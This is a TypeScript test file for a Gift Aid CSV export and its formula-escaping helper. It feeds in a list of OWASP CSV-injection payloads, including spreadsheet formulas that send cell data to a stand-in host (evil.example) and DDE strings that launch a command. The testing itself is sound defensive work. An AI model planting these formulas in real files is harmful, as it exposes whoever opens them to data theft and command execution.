// Exports cannot carry formulas (issue 9 item 3): the kit's one helper, checked with OWASP's
// CSV-injection payloads, and the Gift Aid schedule (the platform's CSV export) built with it
// while HMRC's column rules still hold.
import { parse } from 'csv-parse/sync';
import { escapeFormula, stringifyCsvSafe } from '@commonhold/kit';
import { buildScheduleRows, renderScheduleFiles, SCHEDULE_COLUMNS } from '../../services/fundraising/src/modules/gift-aid/schedule';

/** OWASP CSV Injection payloads (owasp.org/www-community/attacks/CSV_Injection) and their variants. */
const OWASP_PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '=cmd|\' /C calc\'!A0',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+9)*cmd|\' /C calc\'!A0',
  '=1+2";=1+2',
  "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", CONCATENATE(A2:E2)), \"//a\")",
  '=DDE("cmd";"/C calc";"!A0")A0',
  '\t=1+1',
  '\r=1+1',
  '＝1+1', // full-width equals sign
  '@A1',
  '-1+1',
];

/** A spreadsheet evaluates a cell when, once parsed from CSV, it starts with one of these. */
const isFormula = (cell: string) => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

describe('escapeFormula / stringifyCsvSafe (kit)', () => {
  it.each(OWASP_PAYLOADS)('makes %j inert', (payload) => {
    expect(isFormula(escapeFormula(payload))).toBe(false);
    expect(escapeFormula(payload)).toBe(`'${payload}`);
    const cell = (parse(stringifyCsvSafe([[payload]])) as string[][])[0]![0]!;
    expect(isFormula(cell)).toBe(false);
  });

  it.each(['Ada', "O'Brien", '12.50', '-3.20', '2026-11-22', ''])('leaves ordinary data %j unchanged', (v) => {
    expect(escapeFormula(v)).toBe(v);
  });

  it('keeps a column width after escaping by cutting the end, never the quote', () => {
    const cell = (parse(stringifyCsvSafe([['=' + 'x'.repeat(40)]], { maxLengths: [35] })) as string[][])[0]![0]!;
    expect(cell).toHaveLength(35);
    expect(cell.startsWith("'=")).toBe(true);
  });
});

describe('Gift Aid schedule CSV', () => {
  const donation = (i: number, first: string, last: string, house: string) => ({
    giftId: `g${i}`,
    donationDate: '2026-10-01' as const,
    amountMinor: 5000 + i,
    donor: { title: 'Ms', firstName: first, lastName: last, houseNameOrNumber: house, postcode: 'SW1A 1AA', country: null },
  });

  it('carries no formula from donor-controlled names or houses (e.g. a Stripe billing name)', () => {
    const donations = OWASP_PAYLOADS.map((p, i) => donation(i, p, p, p));
    const [file] = renderScheduleFiles(buildScheduleRows(donations as never, 2000), { claimId: 'abcdef12-claim', today: '2026-11-22' as never });
    const rows = parse(file!.csv) as string[][];
    expect(rows[0]).toEqual([...SCHEDULE_COLUMNS]);
    for (const row of rows.slice(1)) {
      for (const cell of row) expect(isFormula(cell)).toBe(false);
      // HMRC's widths: names at most 35 characters, house name or number at most 40.
      expect(row[1]!.length).toBeLessThanOrEqual(35);
      expect(row[2]!.length).toBeLessThanOrEqual(35);
      expect(row[3]!.length).toBeLessThanOrEqual(40);
      expect(row[8]).toMatch(/^\d+\.\d{2}$/);
      expect(row[7]).toMatch(/^\d{2}\/\d{2}\/\d{2}$/);
    }
  });

  it('leaves ordinary donors exactly as HMRC expects', () => {
    const [file] = renderScheduleFiles(buildScheduleRows([donation(1, 'Ada', 'Lovelace', '12')] as never, 2000), { claimId: 'abcdef12-claim', today: '2026-11-22' as never });
    expect(parse(file!.csv)).toEqual([[...SCHEDULE_COLUMNS], ['Ms', 'Ada', 'Lovelace', '12', 'SW1A 1AA', '', '', expect.stringMatching(/^\d{2}\/\d{2}\/\d{2}$/), '50.01']]);
  });
});
